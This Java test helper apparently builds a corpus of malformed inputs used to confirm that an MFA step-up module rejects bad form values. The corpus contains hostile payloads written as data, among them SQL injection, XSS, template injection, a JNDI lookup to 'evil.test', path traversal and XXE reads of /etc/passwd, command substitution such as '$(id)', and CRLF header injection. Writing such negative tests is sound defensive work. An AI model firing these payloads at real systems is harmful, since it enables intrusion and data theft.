package dev.mfastepup.it;

import dev.mfastepup.MfaException;
import dev.mfastepup.service.InputSyntax;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;

/**
 * A corpus of values no field of the MFA pages accepts: wrong lengths, digits of other scripts, invisible and
 * control characters, injection markers of many languages, and bodies with broken %-encoding. Every value is
 * checked here against the module's own syntax rules, so that none of them is, by accident, a well-formed code,
 * recovery code, phone number or address: for each one, the module must not call Auth0.
 */
final class BadInputs {

    private BadInputs() {
        // static only
    }

    /**
     * Returns the field values, decoded; they are URL-encoded when sent.
     *
     * @return about 170 values, each malformed for every field.
     */
    static List<String> values() {
        Set<String> values = new LinkedHashSet<>();
        // lengths around and far from the six digits
        for (int length : new int[] {0, 1, 2, 3, 4, 5, 7, 8, 9, 10, 12, 15, 16, 17, 31, 32, 33, 63, 64, 65, 100, 255,
                256, 1_000, 4_096, 20_000}) {
            values.add("7".repeat(length));
            values.add("A".repeat(length) + "!");
        }
        values.add(" ");
        values.add("      ");
        values.add("123 45");
        values.add("123-456");
        values.add("123.456");
        values.add("123_456");
        values.add("123,456");
        values.add("+123456");
        values.add("-123456");
        values.add("123456.0");
        values.add("1e5");
        values.add("0x1E240");
        values.add("12345a");
        values.add("NaN");
        values.add("null");
        values.add("undefined");
        values.add("true");
        // digits of other scripts, which Character.isDigit and \d with UNICODE_CHARACTER_CLASS accept
        values.add("١٢٣٤٥٦"); // Arabic-Indic
        values.add("۱۲۳۴۵۶"); // Extended Arabic-Indic
        values.add("१२३४५६"); // Devanagari
        values.add("১২৩৪৫৬"); // Bengali
        values.add("๑๒๓๔๕๖"); // Thai
        values.add("１２３４５６"); // full width
        values.add("𝟏𝟐𝟑𝟒𝟓𝟔"); // mathematical bold, outside the BMP
        values.add("¹²³⁴⁵⁶");
        values.add("①②③④⑤⑥");
        values.add("12345٦");
        values.add("1̸2̸3̸4̸5̸6̸");
        values.add("ⅠⅡⅢⅣⅤⅥ");
        // invisible characters and spaces other than ASCII's
        values.add("123\u00A0456");
        values.add("123\u2007456");
        values.add("\u200B123456");
        values.add("123456\u200D");
        values.add("\uFEFF123456");
        values.add("\u202E654321");
        values.add("123456\u2028");
        values.add("123456\u0085");
        // control characters
        values.add("\u0000123456");
        values.add("123456\u0000");
        values.add("123456\r\n");
        values.add("123\n456");
        values.add("\t123456");
        values.add("123456\r\nSet-Cookie: injected=1");
        values.add("\u0007\u0008\u001B[31m");
        values.add("\u007F123456");
        values.add("\u0001\u0002\u0003\u0004\u0005\u0006");
        // injection markers
        values.add("' OR '1'='1");
        values.add("\" OR 1=1 --");
        values.add("1; DROP TABLE users");
        values.add("<script>alert(1)</script>");
        values.add("\"><img src=x onerror=alert(1)>");
        values.add("javascript:alert(1)");
        values.add("${7*7}");
        values.add("#{7*7}");
        values.add("#{facesContext.externalContext.session.invalidate()}");
        values.add("{{7*7}}");
        values.add("%{7*7}");
        values.add("<%= 7*7 %>");
        values.add("${jndi:ldap://evil.test/a}");
        values.add("../../../../etc/passwd");
        values.add("..\\..\\..\\windows\\win.ini");
        values.add("file:///etc/passwd");
        values.add("| id");
        values.add("`id`");
        values.add("$(id)");
        values.add("AAAA%n%n%n%s%s");
        values.add("{\"$gt\":\"\"}");
        values.add("*)(uid=*))(|(uid=*");
        values.add("<!--");
        values.add("]]>");
        values.add("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
        values.add("\\");
        values.add("\"");
        values.add("'");
        values.add("%00");
        values.add("%0d%0aX-Injected: 1");
        values.add("%2e%2e%2f");
        values.add("%C0%AE%C0%AE%C0%AF");
        values.add("&mfa:code=123456");
        values.add("flow=AAAAAAAAAAAAAAAAAAAAAA");
        // look-alikes and long non-ASCII text
        values.add("Ο123456"); // Greek capital omicron
        values.add("l23456");
        values.add("O12345");
        values.add("é".repeat(100));
        values.add("😀".repeat(1_000));
        values.add("\uD83D");
        values.add("\uDE00123456");
        // phone numbers and addresses that are almost right
        values.add("+1555");
        values.add("12025551234");
        values.add("+12025551234\r\nX: y");
        values.add("+0123456789");
        values.add("+1234567890123456");
        values.add("+١٢٣٤٥٦٧٨٩");
        values.add("alice@");
        values.add("@example.com");
        values.add("alice@example");
        values.add("alice@@example.com");
        values.add("alice@example.com\r\nBcc: bob@example.com");
        values.add("\"alice\"@example.com");
        values.add("alice@[127.0.0.1]");
        values.add("a".repeat(250) + "@example.com");
        values.add("alice@exa mple.com");
        values.add("<alice@example.com>");
        values.add("alice@example.com, bob@example.com");
        // recovery codes that are almost right
        values.add("ABCDEFGHIJKLMNO");
        values.add("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456");
        values.add("ABCDEFGH IJKLMNO!");
        values.add("ABCDÉFGHIJKLMNOP");
        List<String> malformed = new ArrayList<>();
        for (String value : values) {
            if (malformedForEveryField(value)) {
                malformed.add(value);
            }
        }
        return List.copyOf(malformed);
    }

    /**
     * Returns form bodies, as sent on the wire, whose {@code %}-encoding is broken or whose bytes are not UTF-8.
     *
     * @param field the (unencoded) name of the field to break.
     * @return the broken {@code name=value} pairs.
     */
    static List<String> brokenEncodings(String field) {
        String name = field.replace(":", "%3A");
        return List.of(name + "=%", name + "=%G1", name + "=%4", name + "=%C3%28", name + "=%FF%FE%FD",
                name + "=%ED%A0%80", name + "=%C0%AF", name + "=%F8%88%80%80%80", name + "=%%32%46",
                name + "=%u0031%u0032", name + "=1%002", "%=1", "%ZZ=1", name, name + "==", "&&&&", "=");
    }

    private static boolean malformedForEveryField(String value) {
        return refused(InputSyntax::sixDigitCode, value) && refused(InputSyntax::recoveryCode, value)
                && refused(InputSyntax::phoneNumber, value) && refused(InputSyntax::email, value);
    }

    private static boolean refused(Consumer<String> check, String value) {
        try {
            check.accept(value);
            return false;
        } catch (MfaException malformed) {
            return true;
        }
    }
}
